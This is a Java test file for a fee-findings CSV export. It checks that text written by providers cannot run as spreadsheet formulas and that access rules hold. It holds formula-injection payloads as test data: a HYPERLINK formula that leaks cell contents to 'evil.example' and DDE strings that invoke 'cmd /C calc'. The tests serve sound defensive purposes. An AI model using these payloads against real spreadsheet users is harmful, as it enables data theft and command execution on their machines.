package uk.sendplan.api.fees;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpStatus;
import org.springframework.test.web.reactive.server.WebTestClient;
import uk.sendplan.api.GraphQlTestBase;
import uk.sendplan.api.system.Csv;

import java.time.Duration;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static uk.sendplan.api.fees.FeeFixtures.fee;
import static uk.sendplan.api.fees.FeeFixtures.justified;

/**
 * The findings export as a regulator opens it in a spreadsheet: text a provider wrote (a setting's name, a fee's
 * justification, its answer to the finding) can't run as a formula, and the figures stay numbers; the same CSV
 * comes as a file over HTTP under the same rules as the GraphQL field.
 */
class FeeFindingsExportTest extends GraphQlTestBase {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")";
    static final String DDE = "-2+3+cmd|' /C calc'!A0";
    static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";

    String year;
    String providerId;
    String findingId;
    String auditId;

    @BeforeEach
    void aFindingOnAPlantedFormula() {
        FeeFixtures fixtures = new FeeFixtures(graphQl);
        year = FeeFixtures.freshYears()[1];
        fixtures.published(year);
        providerId = fixtures.provider("Export Formula Ltd", "INDEPENDENT", true);
        int urn = fixtures.setting(providerId, "INDEPENDENT_SPECIAL", FeeFixtures.GATESHEAD, false, "SEMH");
        var provider = asProvider(Long.parseLong(providerId));
        provider.documentName("updateSetting").variable("input", Map.of("urn", urn, "name", HYPERLINK)).execute()
                .path("updateSetting.setting.name").entity(String.class).isEqualTo(HYPERLINK);
        // above the DAY-3 ceiling (60,000): a finding, with the provider's justification beside it
        provider.documentName("submitFees").fragmentName("feeFields").variable("input", Map.of("urn", urn, "financialYear", year,
                        "fees", List.of(justified(fee(3, "DAY", "65000.00"), DDE)))).execute()
                .path("submitFees.fees").entityList(Object.class).hasSize(1);
        var audit = as("regulator").documentName("runFeeAudit").variable("financialYear", year)
                .variable("scope", Map.of("providerId", providerId)).execute();
        auditId = audit.path("runFeeAudit.audit.id").entity(String.class).get();
        findingId = as("regulator").documentName("feeFindings").variable("filter", Map.of("auditId", auditId)).execute()
                .path("feeFindings.edges[0].node.id").entity(String.class).get();
        provider.documentName("setFeeFindingStatus").variable("input", Map.of("id", findingId, "status", "PROVIDER_RESPONDED", "note", AT))
                .execute().path("setFeeFindingStatus.finding.status").entity(String.class).isEqualTo("PROVIDER_RESPONDED");
    }

    private String graphQlCsv() {
        return as("regulator").documentName("feeFindingsCsv").variable("filter", Map.of("auditId", auditId)).execute()
                .path("feeFindingsCsv").entity(String.class).get();
    }

    private Map<String, String> onlyRow(String csv) {
        List<Csv.Row> rows = Csv.parse(csv);
        assertThat(rows).hasSize(2);
        Map<String, String> row = new HashMap<>();
        for (int i = 0; i < rows.get(0).fields().size(); i++) {
            row.put(rows.get(0).fields().get(i), rows.get(1).fields().get(i));
        }
        return row;
    }

    @Test
    void textAProviderWroteReachesTheRegulatorsSpreadsheetAsTextNotAFormula() {
        String csv = graphQlCsv();
        Map<String, String> row = onlyRow(csv);
        assertThat(row.get("setting_name")).isEqualTo("'" + HYPERLINK);
        assertThat(row.get("justification")).isEqualTo("'" + DDE);
        assertThat(row.get("last_note")).isEqualTo("'" + AT);
        // no cell of the file starts a formula
        for (Csv.Row r : Csv.parse(csv)) {
            assertThat(r.fields()).noneMatch(f -> !f.isEmpty() && "=+-@\t\r".indexOf(f.charAt(0)) >= 0 && !f.matches("-?[0-9.]+"));
        }
        // the service's figures are numbers, unquoted in the file
        assertThat(row.get("annual_fee")).isEqualTo("65000.00");
        assertThat(row.get("excess_over_reference")).isEqualTo("15000.00");
        assertThat(csv).contains(",65000.00,");
    }

    private WebTestClient http() {
        return WebTestClient.bindToServer().baseUrl("http://localhost:" + port).responseTimeout(Duration.ofSeconds(60)).build();
    }

    private WebTestClient.ResponseSpec get(String subject, String uri) {
        return http().get().uri(uri).headers(h -> {
            if (subject != null) {
                h.set("Authorization", authorization(subject));
            }
        }).exchange();
    }

    @Test
    void theExportIsAlsoAFileOverHttpUnderTheSameRules() {
        String uri = "/exports/fee-findings.csv?financialYear=" + year + "&auditId=" + auditId;
        byte[] body = get("regulator", uri).expectStatus().isOk()
                .expectHeader().contentType("text/csv;charset=UTF-8")
                .expectHeader().valueEquals(HttpHeaders.CONTENT_DISPOSITION, "attachment; filename=\"fee-findings-" + year + "-audit-" + auditId
                        + "-" + LocalDate.now(ZoneId.of("Europe/London")) + ".csv\"")
                .expectBody().returnResult().getResponseBody();
        assertThat(new String(body, java.nio.charset.StandardCharsets.UTF_8)).isEqualTo(graphQlCsv());

        // the provider sees its own findings; another provider filtering on this one's is refused, as in GraphQL
        String own = new String(get("test-provider-" + providerId, "/exports/fee-findings.csv?providerId=" + providerId)
                .expectStatus().isOk().expectBody().returnResult().getResponseBody(), java.nio.charset.StandardCharsets.UTF_8);
        assertThat(Csv.parse(own)).hasSize(2);
        String other = user("test-provider-other-" + providerId, "PROVIDER", null, null, Long.parseLong(
                new FeeFixtures(graphQl).provider("Export Other Ltd", "INDEPENDENT", true)));
        get(other, "/exports/fee-findings.csv?providerId=" + providerId).expectStatus().isForbidden()
                .expectBody(String.class).isEqualTo("feeFindingsCsv: not found in your scope\n");
        String otherOwn = new String(get(other, "/exports/fee-findings.csv?auditId=" + auditId)
                .expectStatus().isOk().expectBody().returnResult().getResponseBody(), java.nio.charset.StandardCharsets.UTF_8);
        assertThat(Csv.parse(otherOwn)).hasSize(1);
        get("commissioner-camden", uri).expectStatus().isForbidden();
        get(null, uri).expectStatus().isUnauthorized();
        get("regulator", "/exports/fee-findings.csv?statuses=OPEN&statuses=CLOSED").expectStatus().isBadRequest()
                .expectBody(String.class).isEqualTo("statuses[1]: expected one of [OPEN, PROVIDER_RESPONDED, ACCEPTED, UPHELD, ESCALATED], got \"CLOSED\"\n");
        get("regulator", "/exports/fee-findings.csv?regionCode=" + "E".repeat(256)).expectStatus().isBadRequest()
                .expectBody(String.class).isEqualTo("regionCode: must be at most 255 characters, got 256\n");
        get("regulator", "/exports/fee-findings.csv?regionCode=E1%00").expectStatus().isBadRequest();
        get("regulator", "/exports/fee-findings.csv?financialYear=2026/27").expectStatus().isBadRequest();
    }
}
